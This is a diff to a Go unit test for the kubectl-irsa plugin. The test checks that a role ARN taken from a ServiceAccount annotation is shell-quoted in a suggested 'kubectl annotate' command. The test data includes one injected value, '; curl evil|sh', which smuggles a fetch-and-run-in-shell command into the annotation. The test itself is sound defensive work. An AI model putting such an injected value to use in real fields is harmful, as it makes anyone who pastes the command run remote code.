@@ -5,11 +5,31 @@ import (
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
+	corev1 "k8s.io/api/core/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime/schema"
 
 	"github.com/kubectl-irsa/kubectl-irsa/pkg/hint"
 )
+
+// Whoever may annotate does not thereby write what somebody else pastes into a shell.
+func TestARoleUnderAnotherAnnotationIsOfferedAsOneWord(t *testing.T) {
+	account := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "cart", Namespace: "shop"}}
+	for value, want := range map[string]string{
+		"arn:aws:iam::111122223333:role/cart":               "arn:aws:iam::111122223333:role/cart",
+		"arn:aws:iam::111122223333:role/cart; curl evil|sh": "'arn:aws:iam::111122223333:role/cart; curl evil|sh'",
+	} {
+		account.Annotations = map[string]string{"iam.amazonaws.com/role": value}
+		want := []string{
+			"its annotation iam.amazonaws.com/role holds a role; if that is the one:",
+			"kubectl annotate sa cart -n shop eks.amazonaws.com/role-arn=" + want,
+		}
+		if diff := cmp.Diff(want, hint.Lines(NoRole(account))); diff != "" {
+			t.Errorf("(-want +got):\n%s", diff)
+		}
+	}
+}
 
 // Nobody is told to grant a right to everybody who reaches the API server.
 func TestWhoMayNotReadAnAccountIsToldHowToDoWithout(t *testing.T) {
